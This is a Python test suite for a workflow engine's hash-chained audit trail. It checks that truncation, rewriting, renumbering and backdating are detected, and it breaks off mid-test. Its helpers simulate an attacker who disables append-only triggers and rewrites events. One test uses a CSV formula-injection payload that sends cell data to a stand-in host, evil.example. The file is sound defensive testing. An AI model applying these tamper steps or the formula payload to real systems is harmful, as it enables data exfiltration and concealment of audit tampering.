"""The audit trail against an attacker with database rights: truncation and rewriting caught by
an anchor kept outside the database, backdating shown by recorded_at, and the 0002 → 0003
upgrade keeping old chains verifiable. On SQLite and PostgreSQL."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import warnings
from datetime import datetime, timedelta

import pytest
from alembic import command
from click.testing import CliRunner
from sqlalchemy import event, func, select, text
from sqlalchemy.exc import DatabaseError

import engine.audit as audit
from engine import clock
from engine.audit import public_url, verify
from engine.cli import main
from engine.commands import Engine
from models import AuditEvent
from models.db import Database

from .conftest import FIXTURES, migrate_to, read


def cli(db: Database, *args, code: int = 0):
    result = CliRunner().invoke(main, ["--db", db.url, *args], catch_exceptions=False)
    assert result.exit_code == code, result.output + result.stderr
    return result


def tamper(db: Database, *statements, table: str = "audit_events", **params) -> None:
    """What an attacker with database rights does: switch an append-only table's triggers off
    (audit_events, or documents), edit."""
    with db.engine.begin() as conn:
        if db.is_sqlite:
            conn.execute(text(f"DROP TRIGGER IF EXISTS {table}_no_update"))
            conn.execute(text(f"DROP TRIGGER IF EXISTS {table}_no_delete"))
        else:
            conn.execute(text(f"ALTER TABLE {table} DISABLE TRIGGER USER"))
        for sql in statements:
            conn.execute(text(sql), params)
        if not db.is_sqlite:
            conn.execute(text(f"ALTER TABLE {table} ENABLE TRIGGER USER"))


def cut_back_to(db: Database, seq: int) -> None:
    """Delete every event after `seq` and set the head back to match, as a careful attacker would."""
    with db.reader() as s:
        head_hash = s.execute(select(AuditEvent.hash).where(AuditEvent.seq == seq)).scalar_one()
    tamper(db, "DELETE FROM audit_events WHERE seq > :seq",
           "UPDATE audit_head SET last_seq = :seq, last_hash = :hash", seq=seq, hash=head_hash)


def outsider_hash(row: dict) -> str:
    """The hash as documented in docs/cli.md, computed from an export without reformflow's code."""
    fields = [row["seq"], row["occurred_at"], row["actor"], row["event_type"], row["instance_id"],
              row["task_id"], row["payload"], row["prev_hash"]]
    if row.get("recorded_at"):
        fields.append(row["recorded_at"])
    if row.get("channel"):  # since migration 0025: the channel and the API token's id
        fields += [row["channel"], row["token_id"]]
    material = json.dumps(fields, ensure_ascii=False, separators=(",", ":"))
    return hashlib.sha256(material.encode("utf-8")).hexdigest()


def verify_json(db: Database, *anchors, code: int = 0) -> dict:
    args = [a for path in anchors for a in ("--anchor", str(path))]
    return json.loads(cli(db, "audit", "verify", *args, "--json", code=code).stdout)


def test_an_anchor_catches_a_cut_off_end_the_chain_alone_cannot(engine, people, tmp_path):
    anchor_file = tmp_path / "anchor.json"
    cli(engine.db, "audit", "anchor", "--output", str(anchor_file), "--as", "chen")
    anchor = json.loads(anchor_file.read_text(encoding="utf-8"))
    # events that leave no record in the state tables (a user or group added would: verify then
    # finds it without its event, test_a_cut_off_end_is_caught_by_the_records_it_leaves_behind)
    for name in ("mallory", "eve"):
        engine.sign_in_refused(name, address="203.0.113.9", reason=engine.SIGN_IN_REFUSALS[0])

    intact = verify_json(engine.db, anchor_file)
    assert intact["ok"] and intact["anchors"][0]["status"] == "ok"
    assert intact["anchors"][0]["appended_after"] == 2
    human = cli(engine.db, "audit", "verify", "--anchor", str(anchor_file)).stdout
    assert f"事件 {anchor['seq']} 未被改动，其后追加了 2 个事件" in human

    cut_back_to(engine.db, anchor["seq"] - 1)  # the anchoring event and everything after it
    with engine.db.reader() as s:
        assert verify(s).ok  # the limit this feature exists for: a consistent, shorter chain
    broken = verify_json(engine.db, anchor_file, code=1)
    assert broken["anchors"][0]["status"] == "missing"
    assert broken["problems"] == [
        f"锚定的事件 {anchor['seq']} 已不存在，审计记录被截断 (anchored event {anchor['seq']} is "
        f"missing: the trail was cut; it now ends at event {anchor['seq'] - 1})"]
    result = cli(engine.db, "audit", "verify", "--anchor", str(anchor_file), code=1)
    assert "audit trail broken: 1 problem(s)" in result.stderr
    not_an_anchor = tmp_path / "notes.json"
    not_an_anchor.write_text('{"seq": 3}', encoding="utf-8")
    refused = cli(engine.db, "audit", "verify", "--anchor", str(not_an_anchor), code=3)
    assert 'an anchor needs "seq", a positive integer, and "hash"' in refused.stderr


def test_a_head_moved_back_refuses_every_action_as_the_operators_not_as_a_conflict(engine, people, caplog):
    """audit_head set back by hand: every action failed on the same event number, told 刚有其他人
    创建了同一记录，请刷新后重试, which no retry helps, and nothing was logged."""
    engine.deploy([read(FIXTURES / "diagrams" / "mini_approval.bpmn")])
    engine.start("mini_approval", actor="zhang")
    with engine.db.reader() as s:
        last = s.scalar(select(func.max(AuditEvent.seq)))
    with engine.db.engine.begin() as conn:  # the app's own rights: no trigger guards the head
        conn.execute(text("UPDATE audit_head SET last_seq = 2, last_hash = (SELECT hash FROM audit_events WHERE seq = 2)"))
    fresh = Engine(engine.db)  # another worker, which never saw the tip
    for who in (engine, fresh):
        with pytest.raises(audit.HeadBehind) as refused, caplog.at_level("ERROR", logger="reformflow.audit"):
            who.start("mini_approval", actor="zhang")
        assert refused.value.kind == "unavailable"
        assert refused.value.message.startswith("审计记录的链头（audit_head）落后于已写入的事件（事件 3 已存在）")
        assert "trying again will not help: ask the operator to run `reformflow audit verify`" in refused.value.message
        assert "audit_head is behind the audit trail: event 3 exists already" in caplog.text
        caplog.clear()
    with engine.db.reader() as s:  # nothing was written
        assert s.scalar(select(func.max(AuditEvent.seq))) == last
    # the command line says it, exit code 8 (unavailable), as it does a busy database
    shown = cli(engine.db, "start", "mini_approval", "--as", "zhang", code=8)
    assert "审计记录的链头（audit_head）落后于已写入的事件" in shown.stderr


def test_a_head_past_the_trail_refuses_every_action_rather_than_chain_onto_a_gap(engine, people, caplog):
    """A restore that took audit_head from a newer copy than the events: the next action was
    accepted and chained onto the missing event, after a gap; only a later verify noticed."""
    engine.deploy([read(FIXTURES / "diagrams" / "mini_approval.bpmn")])
    engine.start("mini_approval", actor="zhang")
    with engine.db.reader() as s:
        last = s.scalar(select(func.max(AuditEvent.seq)))
    with engine.db.engine.begin() as conn:
        conn.execute(text("UPDATE audit_head SET last_seq = last_seq + 40"))
    for who in (engine, Engine(engine.db)):
        with pytest.raises(audit.HeadAhead) as refused, caplog.at_level("ERROR", logger="reformflow.audit"):
            who.start("mini_approval", actor="zhang")
        assert refused.value.kind == "unavailable"
        assert refused.value.message.startswith(f"审计记录的链头（audit_head）指向的事件 {last + 40} 不存在或与记录不符")
        assert f"audit_head names event {last + 40}" in caplog.text
        caplog.clear()
    with engine.db.engine.begin() as conn:  # the head's number right, its hash not the event's
        conn.execute(text("UPDATE audit_head SET last_seq = last_seq - 40, last_hash = 'f00d'"))
    with pytest.raises(audit.HeadAhead):
        Engine(engine.db).start("mini_approval", actor="zhang")
    with engine.db.reader() as s:  # nothing was written
        assert s.scalar(select(func.max(AuditEvent.seq))) == last
    shown = cli(engine.db, "start", "mini_approval", "--as", "zhang", code=8)
    assert "审计记录的链头（audit_head）指向的事件" in shown.stderr


def test_a_deleted_step_is_caught_though_the_chain_is_intact(engine, people):
    """The app role may DELETE a step's row; `verify` said 审计记录完好 while the archive said the
    step was gone: what was decided on it vanished from every page, unnoticed by the daily check."""
    engine.deploy([read(FIXTURES / "diagrams" / "mini_approval.bpmn")])
    plan = engine.start("mini_approval", actor="zhang")
    [task] = plan["tasks"]
    with engine.db.reader() as s:
        assert verify(s).ok
    with engine.db.engine.begin() as conn:
        conn.execute(text("DELETE FROM human_tasks WHERE id = :id"), {"id": task["id"]})
    with engine.db.reader() as s:
        created = s.scalar(select(AuditEvent.seq).where(AuditEvent.event_type == "task_created",
                                                        AuditEvent.task_id == task["id"]))
        result = verify(s)
    assert not result.ok
    assert result.problems == [f"待办记录被删除：事件 {created} 记录的待办 {task['id']} 已不在数据库中，其办理情况因此从各页面消失 "
                               f"(task records were deleted: the task {task['id']} of event {created}; they are no longer "
                               "in the database, so what was done on them is gone from every page)"]
    cli(engine.db, "audit", "verify", code=1)


def test_a_cut_off_end_is_caught_by_the_records_it_leaves_behind(engine, people):
    """QA auditor finding 1: a cut tail verified as intact although the users, plans and tasks its
    events created were still in the database. Without an anchor, verify now names them."""
    cli(engine.db, "deploy", str(FIXTURES / "diagrams" / "mini_approval.bpmn"))
    with engine.db.reader() as s:
        before = s.execute(select(func.max(AuditEvent.seq))).scalar_one()
    engine.add_group("pilot", "试点小组")
    engine.add_user("qian", "钱七", groups=["pilot"])
    cli(engine.db, "start", "mini_approval", "--as", "zhang", "--title", "深化财政预算管理制度改革方案")
    cut_back_to(engine.db, before)
    result = cli(engine.db, "audit", "verify", code=1)
    problems = verify_json(engine.db, code=1)["problems"]
    assert problems == [line for line in result.stdout.splitlines() if not line.startswith("注意")]
    said = "\n".join(problems)
    assert "用户 qian 仍在数据库中，却没有 user_added 事件" in said and "user qian has no user_added event" in said
    assert "角色 pilot 仍在数据库中，却没有 group_added 事件" in said
    assert "plan 1 has no instance_started event" in said and "task 1 has no task_created event" in said
    assert problems[0].startswith("审计记录缺失事件：") and "the audit trail is missing events for records that exist" in problems[0]


def test_an_export_goes_on_the_trail_by_whom_in_which_format_up_to_which_event(engine, people, tmp_path):
    """QA auditor finding 10: exporting left no trace; now an `audit_exported` event, as a check's `audit_verified`."""
    from engine.trail_text import said
    cli(engine.db, "audit", "export", "--output", str(tmp_path / "a.jsonl"), "--as", "chen")
    exported = [json.loads(line) for line in (tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()]
    cli(engine.db, "audit", "export", "--format", "csv")  # standard output, the operator
    with engine.db.reader() as s:
        first, second = s.execute(select(AuditEvent).where(AuditEvent.event_type == "audit_exported")
                                  .order_by(AuditEvent.seq)).scalars().all()
    assert (first.actor, first.instance_id, first.seq) == ("chen", None, exported[-1]["seq"] + 1)
    assert json.loads(first.payload) == {"format": "jsonl", "plan": None, "events": len(exported),
                                         "last_seq": exported[-1]["seq"], "last_hash": exported[-1]["hash"], "via": "cli"}
    assert second.actor == "system" and json.loads(second.payload)["last_seq"] == first.seq
    line = said({"event_type": "audit_exported", "payload": json.loads(first.payload), "name": None}, "zh")
    assert line == f"导出审计记录：全部，jsonl，事件 {len(exported)}，至事件 {exported[-1]['seq']}"
    refused = cli(engine.db, "audit", "export", "--as", "nobody", code=4)
    assert "nobody" in refused.stderr
    assert verify_json(engine.db)["ok"]


def test_a_wiped_trail_next_to_a_full_database_is_not_intact(engine, people):
    """QA auditor finding 1: every event deleted and the head set back to the genesis verified as
    "intact: 0 events". The files and comments are then not blamed as added behind the system's back."""
    cli(engine.db, "deploy", str(FIXTURES / "diagrams" / "mini_approval.bpmn"))
    cli(engine.db, "start", "mini_approval", "--as", "zhang", "--title", "深化财政预算管理制度改革方案")
    engine.comment(1, "请补充成本测算", actor="zhang")
    tamper(engine.db, "DELETE FROM audit_events", "UPDATE audit_head SET last_seq = 0, last_hash = :genesis",
           genesis=audit.GENESIS_HASH)
    result = verify_json(engine.db, code=1)
    assert result["events"] == 0 and not result["ok"]
    said = "\n".join(result["problems"])
    for line in ("plan 1 has no instance_started event", "task 1 has no task_created event", "users chen, huang, li, lin, liu, sun, wang, wu, zhang, zhao, … (11 in all) have no user_added event",
                 "groups ", "process mini_approval v1 has no deployed event"):
        assert line in said
    assert "绕过系统添加" not in said.replace("而非留言绕过系统添加", "")
    assert ("留言 1 的事件不在审计记录中：审计记录缺失事件（见上），而非留言绕过系统添加 (comment 1: its event is not in the "
            "audit trail, which has lost events (see above), rather than the comment having been added behind the "
            "system's back)") in result["problems"]
    shown = cli(engine.db, "audit", "verify", code=1)
    assert "审计记录完好" not in shown.stdout and "audit trail broken" in shown.stderr


def test_the_records_check_is_a_few_queries_not_one_per_row(engine, people):
    """The cross-check is set-based: its statements do not grow with the rows it checks."""
    cli(engine.db, "deploy", str(FIXTURES / "diagrams" / "mini_approval.bpmn"))
    counts = []
    for n in (1, 4):
        for i in range(n):
            cli(engine.db, "start", "mini_approval", "--as", "zhang", "--title", f"方案{n}-{i}")
        statements = []
        with engine.db.reader() as s:
            listener = lambda *a: statements.append(1)  # noqa: E731
            event.listen(s.get_bind(), "before_cursor_execute", listener)
            try:
                assert audit.unrecorded_records(s) == []
            finally:
                event.remove(s.get_bind(), "before_cursor_execute", listener)
        counts.append(len(statements))
    assert counts[0] == counts[1] <= 10


def test_an_anchor_catches_an_event_rewritten_before_it_with_the_chain_rehashed(engine, people, tmp_path):
    anchor_file = tmp_path / "anchor.json"
    cli(engine.db, "audit", "anchor", "--output", str(anchor_file), "--as", "chen")
    # Forge event 2's actor and recompute every later hash and the head: the chain is consistent.
    with engine.db.reader() as s:
        events = s.execute(select(AuditEvent).order_by(AuditEvent.seq)).scalars().all()
    edits, prev = [], audit.GENESIS_HASH
    for e in events:
        actor = "mallory" if e.seq == 2 else e.actor
        digest = audit.event_hash(e.seq, e.occurred_at, actor, e.event_type, e.instance_id,
                                  e.task_id, e.payload, prev, e.recorded_at, e.channel, e.token_id)
        edits.append(f"UPDATE audit_events SET actor = '{actor}', prev_hash = '{prev}', "
                     f"hash = '{digest}' WHERE seq = {e.seq}")
        prev = digest
    tamper(engine.db, *edits, f"UPDATE audit_head SET last_hash = '{prev}'")
    with engine.db.reader() as s:
        assert verify(s).ok
    seq = json.loads(anchor_file.read_text(encoding="utf-8"))["seq"]
    broken = verify_json(engine.db, anchor_file, code=1)
    assert broken["anchors"][0]["status"] == "mismatch"
    assert broken["problems"] == [f"事件 {seq} 的哈希与锚点不符，该事件或之前的事件被改写 (event {seq} does "
                                  f"not match the anchor: it or events before it were rewritten)"]


def test_the_anchor_is_an_event_in_the_trail_and_names_the_database_without_password(engine, people):
    document = json.loads(cli(engine.db, "--now", "2026-03-01T09:00:00", "audit", "anchor",
                              "--as", "chen").stdout)
    assert set(document) == {"seq", "hash", "recorded_at", "events", "database"}
    with engine.db.reader() as s:
        event = s.get(AuditEvent, document["seq"])
        assert document["events"] == s.execute(text("SELECT count(*) FROM audit_events")).scalar()
    assert (event.event_type, event.actor, event.hash) == ("audit_anchored", "chen", document["hash"])
    assert document["recorded_at"] == event.recorded_at.isoformat(timespec="microseconds")
    assert document["database"] == public_url(engine.db.url)
    assert public_url("postgresql+psycopg://rf:s3cret@db.example/reformflow") == \
        "postgresql+psycopg://rf@db.example/reformflow"


def test_only_a_known_active_user_anchors_as_for_every_other_as(engine, people):
    def anchored() -> int:
        with engine.db.reader() as s:
            return s.execute(text("SELECT count(*) FROM audit_events WHERE event_type = 'audit_anchored'")).scalar()
    refused = cli(engine.db, "audit", "anchor", "--as", "auditor", "--json", code=4)
    assert json.loads(refused.stdout)["error"] == "forbidden"
    assert refused.stderr == "reformflow: forbidden: 用户 auditor 不存在或已停用；请核对用户名，在岗人员见 reformflow users list (unknown or inactive user: check the name; `reformflow users list` lists who is active)\n"
    with engine.db.transaction() as s:
        s.execute(text("UPDATE users SET active = :no WHERE username = 'chen'"), {"no": False})
    assert cli(engine.db, "audit", "anchor", "--as", "chen", code=4).stderr.startswith("reformflow: forbidden: 用户 chen")
    assert anchored() == 0
    # there is no default name to fall back on: who anchors is said
    missing = cli(engine.db, "audit", "anchor", code=2)
    assert "缺少 --as：请用 --as 用户名 写明以谁的身份办理" in missing.stderr and anchored() == 0
    # a known, active user who is neither an auditor nor in the reform office (QA auditor finding 12)
    legal = cli(engine.db, "audit", "anchor", "--as", "li", code=4)
    assert "只有审计人员和改革办可以记录审计锚点" in legal.stderr and anchored() == 0
    assert json.loads(cli(engine.db, "audit", "anchor", "--as", "zhang", "--json", code=4).stdout)["error"] == "forbidden"
    with engine.db.transaction() as s:
        s.execute(text("UPDATE users SET active = :yes WHERE username = 'chen'"), {"yes": True})
    assert json.loads(cli(engine.db, "audit", "anchor", "--as", "chen").stdout)["seq"]
    assert anchored() == 1


def test_no_anchor_is_taken_of_a_broken_chain(engine, people):
    tamper(engine.db, "UPDATE audit_events SET actor = 'mallory' WHERE seq = 3")
    result = cli(engine.db, "audit", "anchor", "--as", "chen", code=1)
    assert result.stdout == "" and "不能锚定 (audit trail broken, not anchored)" in result.stderr
    with engine.db.reader() as s:
        assert s.execute(text("SELECT count(*) FROM audit_events WHERE event_type = 'audit_anchored'")).scalar() == 0


def test_a_backdated_now_shows_in_recorded_at_and_export_json_recomputes(engine, people):
    before = clock.real_now()
    cli(engine.db, "--now", "2020-01-01T09:00:00", "groups", "add", "backdated", "--display-name", "补记")
    after = clock.real_now()
    clock.set_override(None)  # as the next command, a process of its own, starts: its export is on the trail
    with warnings.catch_warnings():
        warnings.simplefilter("error", DeprecationWarning)  # click.get_text_stream is gone
        exported = json.loads(cli(engine.db, "audit", "export", "--json").stdout)
    [row] = [r for r in exported["events"] if '"backdated"' in r["payload"]]
    assert row["occurred_at"] == "2020-01-01T01:00:00.000000+00:00"  # the engine clock: --now
    assert before <= datetime.fromisoformat(row["recorded_at"]) <= after  # the real time
    prev = audit.GENESIS_HASH
    for r in exported["events"]:
        assert r["prev_hash"] == prev and outsider_hash(r) == r["hash"]
        prev = r["hash"]
    report = verify_json(engine.db)
    assert report["ok"]  # --now is allowed, but the auditor is told
    assert report["notes"] == [
        f"1 个事件的业务时间与实际写入时间相差超过 5 分钟，即以实际以外的日期录入（人工指定日期，或演示数据），首个为事件 "
        f"{row['seq']} (1 event(s) have a business time more than 5 minutes from the time they were written: entered "
        f"with a date other than the real one (a date set by hand, or the demo data); first: event {row['seq']})"]
    csv_header = cli(engine.db, "audit", "export", "--format", "csv").stdout.splitlines()[0]
    assert csv_header.split(",")[9] == "实际写入时间，UTC (recorded_at)"
    refused = cli(engine.db, "audit", "export", "--format", "csv", "--json", code=3)
    assert json.loads(refused.stdout)["error"] == "invalid"


class _ClockAt:
    """Stands in for engine.audit's real_now so recorded_at reads a chosen wall clock."""

    def __init__(self, moment: datetime):
        self.moment = moment

    def __call__(self):
        return self.moment


def test_a_wall_clock_going_back_is_reported_small_skew_is_not(engine, people, monkeypatch):
    with engine.db.reader() as s:
        latest = s.execute(select(AuditEvent.recorded_at).order_by(AuditEvent.seq.desc())).scalars().first()
    monkeypatch.setattr(audit, "real_now", _ClockAt(latest - timedelta(minutes=4)))
    engine.add_group("skewed", "时钟略慢的工作进程")
    with engine.db.reader() as s:
        assert verify(s).ok
    monkeypatch.setattr(audit, "real_now", _ClockAt(latest - timedelta(hours=1)))
    engine.add_group("setback", "时钟被调回")
    with engine.db.reader() as s:
        result = verify(s)
        seq = s.execute(select(AuditEvent.seq).where(AuditEvent.payload.contains("setback"))).scalar_one()
    assert not result.ok and len(result.problems) == 1
    assert result.problems[0].startswith(f"事件 {seq} 的写入时间") and "goes back in time" in result.problems[0]


def test_upgrade_from_0002_keeps_old_events_verifiable(blank_url):
    migrate_to(blank_url, "0002")
    old = Database(blank_url)
    prev = audit.GENESIS_HASH
    with old.engine.begin() as conn:  # events as 0002 wrote them: no recorded_at, 8-field hash
        for seq in (1, 2):
            row = {"seq": seq, "occurred_at": f"2026-01-0{seq}T02:00:00.000000+00:00", "actor": "system",
                   "event_type": "group_added", "instance_id": None, "task_id": None,
                   "payload": json.dumps({"code": f"g{seq}"}), "prev_hash": prev}
            row["hash"] = outsider_hash(row)
            conn.execute(AuditEvent.__table__.insert().values(  # only the columns 0002 has
                row | {"occurred_at": datetime.fromisoformat(row["occurred_at"])}))
            prev = row["hash"]
        conn.execute(text("UPDATE audit_head SET last_seq = 2, last_hash = :h"), {"h": prev})
    old.dispose()

    db = Database(blank_url)
    db.upgrade()
    with db.reader() as s:
        assert [e.recorded_at for e in s.execute(select(AuditEvent)).scalars()] == [None, None]
        assert verify(s).ok
    from engine.commands import Engine
    Engine(db).add_group("g3", "升级之后")
    with db.reader() as s:
        assert s.get(AuditEvent, 3).recorded_at is not None
        assert verify(s).ok
    with pytest.raises(RuntimeError, match="recorded_at"):  # would make event 3 unverifiable
        migrate_to(blank_url, "0002", command.downgrade)
    db.upgrade()  # the later revisions undone before the refusal come back, as `reformflow init` does
    tamper(db, "UPDATE audit_events SET recorded_at = NULL WHERE seq = 3")  # strip it
    with db.reader() as s:
        assert any("event 3: content does not match" in p for p in verify(s).problems)
    db.dispose()


def _head_reads(db: Database, statements: list[str]):
    """Collect the statements that read (and lock) the audit head."""
    def seen(_conn, _cursor, statement, *_):
        if statement.startswith("SELECT audit_head.last_seq"):
            statements.append(statement)
    event.listen(db.engine, "before_cursor_execute", seen)
    return lambda: event.remove(db.engine, "before_cursor_execute", seen)


def test_web_workers_appending_in_turn_keep_one_unbroken_chain(db, engine, people):
    """Each engine first tries to move the head on from its own last append; once another
    worker has appended, that matches nothing and it reads and locks the head instead."""
    other = Engine(db)
    head_reads: list[str] = []
    stop = _head_reads(db, head_reads)
    try:
        engine.add_group("g1", "第一组")  # the engine's own last append (people) is still the head
        assert head_reads == []
        other.add_group("g2", "第二组")  # knows no last append of its own yet
        assert len(head_reads) == 1
        engine.add_group("g3", "第三组")  # its last append is no longer the head
        assert len(head_reads) == 2
        engine.add_group("g4", "第四组")  # now it is
        assert len(head_reads) == 2
    finally:
        stop()
    with db.reader() as s:
        result = verify(s)
        events = s.execute(select(AuditEvent.seq, AuditEvent.payload).order_by(AuditEvent.seq)).all()
    assert result.ok, result.problems
    assert [seq for seq, _ in events] == list(range(1, len(events) + 1))
    assert [json.loads(p).get("code") for _, p in events[-4:]] == ["g1", "g2", "g3", "g4"]


def test_a_remembered_tip_the_head_does_not_hold_is_never_chained_onto(engine, people):
    """As after a commit that failed once the events were chained: the engine remembers an
    append the database never kept."""
    with engine.db.reader() as s:
        real = s.execute(select(AuditEvent.seq, AuditEvent.hash).order_by(AuditEvent.seq.desc())).first()
    engine.audit_tip.value = (real.seq + 1, "f" * 64)  # an append the head never reached
    engine.add_group("g1", "第一组")
    engine.audit_tip.value = (real.seq + 1, real.hash)  # the head's seq (g1's), another hash
    engine.add_group("g2", "第二组")
    with engine.db.reader() as s:
        result = verify(s)
        last = s.execute(select(AuditEvent).order_by(AuditEvent.seq.desc())).scalars().first()
    assert result.ok, result.problems
    assert last.seq == real.seq + 2 and json.loads(last.payload)["code"] == "g2"


def test_a_long_verify_reports_its_progress(db, engine, people, monkeypatch):
    engine.deploy([read(FIXTURES / "diagrams" / "mini_approval.bpmn")])
    engine.start("mini_approval", actor="zhang")
    calls = []
    with db.reader() as s:
        result = verify(s, batch=3, progress=lambda checked, expected: calls.append((checked, expected)))
    assert result.ok and result.events > 6
    assert [checked for checked, _ in calls] == list(range(3, result.events, 3)) + [result.events]
    assert {expected for _, expected in calls} == {result.events}  # the head says how many to expect
    # the command line shows it on standard error, one line per step, the result unchanged on stdout
    monkeypatch.setattr("engine.cli.audit._VerifyProgress.EVERY", 1)
    done = cli(db, "audit", "verify")
    assert done.stdout.startswith("审计记录完好 (audit trail intact)")
    assert done.stderr.splitlines()[-1] == f"校验中 (verifying)：{result.events}/{result.events} 个事件 (events)，100%"


def test_instance_started_records_the_version_numbers_of_the_called_processes(engine, people):
    """called_versions in the audit trail is what `instance` shows: version numbers, not row ids."""
    corpus = FIXTURES / "corpus"
    engine.deploy([read(corpus / "call_activity.bpmn"), read(corpus / "call_activity_called.bpmn")])
    changed = (corpus / "call_activity_called.bpmn").read_bytes().replace("评估风险".encode(), "复核风险".encode())
    engine.deploy([("call_activity_called.bpmn", changed)])  # version 2, a later row id
    plan = engine.start("corpus_call_activity", actor="zhang")
    assert plan["called_versions"] == {"corpus_called_process": 2}
    with engine.db.reader() as s:
        payload = s.execute(select(AuditEvent.payload).where(
            AuditEvent.event_type == "instance_started", AuditEvent.instance_id == plan["id"])).scalar_one()
    assert json.loads(payload)["called_versions"] == {"corpus_called_process": 2}


def test_going_back_to_0009_and_up_again_keeps_every_user_and_group_membership(blank_url):
    """0010's downgrade drops a column of `users`: done as a table copy on SQLite, dropping the
    old table would cascade to the memberships and leave every user without a group."""
    migrate_to(blank_url, "head")
    engine = Engine(Database(blank_url))
    engine.add_group("legal", "法制机构")
    engine.add_user("li", "李娜", groups=["legal"], unit="市司法局")
    engine.db.dispose()
    migrate_to(blank_url, "0009", command.downgrade)
    migrate_to(blank_url, "head")
    engine = Engine(Database(blank_url))
    assert [(u["username"], u["groups"]) for u in engine.users()] == [("li", ["legal"])]
    engine.db.dispose()


def test_going_back_to_0010_drops_the_comments_and_up_again_keeps_them_append_only(blank_url):
    """0011's downgrade drops the comments table with its triggers (and on PostgreSQL their
    function), so that going up again creates them afresh, on SQLite and PostgreSQL alike."""
    migrate_to(blank_url, "head")
    engine = Engine(Database(blank_url))
    engine.add_group("reform_office", "改革办")
    engine.add_user("chen", "陈静", groups=["reform_office"])
    engine.deploy([read(FIXTURES / "diagrams" / "mini_approval.bpmn")])
    plan = engine.start("mini_approval", actor="chen", data={})
    engine.comment(plan["id"], "请补充材料。", actor="chen")
    engine.db.dispose()
    migrate_to(blank_url, "0010", command.downgrade)
    db = Database(blank_url)
    with db.engine.connect() as conn:
        assert "comments" not in db.engine.dialect.get_table_names(conn)
    db.dispose()
    migrate_to(blank_url, "head")
    engine = Engine(Database(blank_url))
    assert engine.comments(plan["id"]) == []
    again = engine.comment(plan["id"], "再次提醒：请补充材料。", actor="chen")
    with pytest.raises(DatabaseError, match="comments is append-only"):
        with engine.db.engine.begin() as conn:
            conn.execute(text("DELETE FROM comments WHERE id = :id"), {"id": again["id"]})
    assert [c["text"] for c in engine.comments(plan["id"])] == ["再次提醒：请补充材料。"]
    with engine.db.reader() as s:
        assert verify(s).ok
    engine.db.dispose()


def test_a_name_typed_as_a_formula_is_text_in_the_csv_export_and_the_hash_still_recomputes(engine, people):
    """Anyone at the sign-in page can type a name; a refused sign-in records it as the actor. In
    the CSV an auditor opens in Excel it must not be a formula, and the documented rule (take one
    leading apostrophe off) gives back the hashed text; the JSON lines keep it exact."""
    typed = '=HYPERLINK("http://evil.example/?d="&A1,"查看详情")'
    engine.sign_in_refused(typed, address="203.0.113.9", reason=engine.SIGN_IN_REFUSALS[0])
    engine.sign_in_refused("'quoted", address="203.0.113.9", reason=engine.SIGN_IN_REFUSALS[0])
    exported = csv.reader(io.StringIO(cli(engine.db, "audit", "export", "--format", "csv").stdout.lstrip("\ufeff")))
    header = next(exported)  # 序号 (seq), …: the hashed fields by name in brackets, then the readable columns
    fields = [h.rsplit("(", 1)[1].rstrip(")") if h.endswith(")") else h for h in header]
    rows = [{k: v for k, v in zip(fields, line) if k in audit.EXPORT_FIELDS} for line in exported]
    actors = [r["actor"] for r in rows]
    assert "'" + typed in actors and typed not in actors and "''quoted" in actors
    assert not [cell for r in rows for cell in r.values() if cell and cell[0] in "=+-@"]  # nothing Excel would run
    for r in rows:  # the hash, from the CSV alone, as docs/cli.md says
        row = {k: v[1:] if v.startswith("'") else v for k, v in r.items()}
        row.update({k: int(row[k]) if row[k] else None for k in ("seq", "instance_id", "task_id")})
        assert outsider_hash(row) == row["hash"], row["seq"]
    exact = [json.loads(line) for line in cli(engine.db, "audit", "export").stdout.splitlines()]
    assert typed in [e["actor"] for e in exact]


def test_an_event_removed_and_the_rest_renumbered_is_one_line_not_one_per_event(engine, people):
    """An operator's test inserted one event and renumbered the rest: `audit verify` printed 817
    lines, one per later event. The same problem on consecutive events is one line with its range,
    and says what a run starting at one event looks like; --json lists the same runs."""
    for n in range(30):
        engine.add_group(f"g{n}", f"小组{n}")
    with engine.db.reader() as s:
        last = s.execute(select(AuditEvent.seq).order_by(AuditEvent.seq.desc())).scalars().first()
    tamper(engine.db, "DELETE FROM audit_events WHERE seq = 10",
           "UPDATE audit_events SET seq = seq + 100000 WHERE seq > 10",
           "UPDATE audit_events SET seq = seq - 100001 WHERE seq > 100000")
    renumbered = last - 10  # events 11..last are now 10..last-1
    result = cli(engine.db, "audit", "verify", code=1)
    lines = result.stdout.splitlines()
    # event 10 added the tenth group: the group is there, its event is not
    gone = ("审计记录缺失事件：角色 party_office 仍在数据库中，却没有 group_added 事件，审计记录被清空、截断或删去了事件 (the audit "
            "trail is missing events for records that exist: group party_office has no group_added event; the trail was "
            "emptied, cut or had events removed)")
    assert lines == [
        "事件 10 与前一事件的哈希链接断开，之前有事件被删除、插入或改动 (event 10: previous-hash link broken: an event "
        "before it was removed, inserted or changed)",
        f"事件 10–{last - 1}（共 {renumbered} 个）的内容与其哈希不符，这些事件被改动；从某一事件起连续不符，正是在其前插入或删除了"
        f"一个事件、其后的事件都被重新编号的样子 (events 10–{last - 1}, {renumbered} events: content does not match "
        "their hashes: they were changed; a run starting at one event is what an event inserted or removed before it "
        "looks like, the events after it renumbered)",
        f"哈希链止于事件 {last - 1}，而记录的链头是事件 {last}，末尾的事件被删除或添加 (chain ends at event {last - 1} "
        f"but the recorded head is event {last}: events at the end were removed or added)", gone]
    assert "audit trail broken: 4 problem(s)" in result.stderr
    assert verify_json(engine.db, code=1)["problems"] == lines
    # one changed event in the middle of the run's kind is still said on its own, as before
    tamper(engine.db, "UPDATE audit_events SET actor = 'mallory' WHERE seq = 3")
    problems = verify_json(engine.db, code=1)["problems"]
    assert problems[0] == ("事件 3 的内容与其哈希不符，该事件被改动 (event 3: content does not match its hash: "
                           "the event was changed)") and len(problems) == 5


def test_the_app_roles_rights_let_it_append_a_forged_event_that_verifies_as_documented(engine, people, tmp_path):
    """docs/architecture.md, "What it does not protect against": the chain has no secret key, and the
    process role must append, so whoever holds its credentials can append a correctly hashed event
    and move the head. Neither verify nor an anchor taken before notices; the anchor still proves
    everything up to it."""
    anchor_file = tmp_path / "anchor.json"
    cli(engine.db, "audit", "anchor", "--output", str(anchor_file), "--as", "chen")
    with engine.db.reader() as s:
        head = s.execute(text("SELECT last_seq, last_hash FROM audit_head")).one()
    now = clock.real_now().replace(microsecond=0)
    payload = '{"username":"mallory"}'
    digest = audit.event_hash(head.last_seq + 1, now, "chen", "user_added", None, None, payload, head.last_hash, now)
    with engine.db.engine.begin() as conn:  # INSERT and UPDATE only: what the app role may do
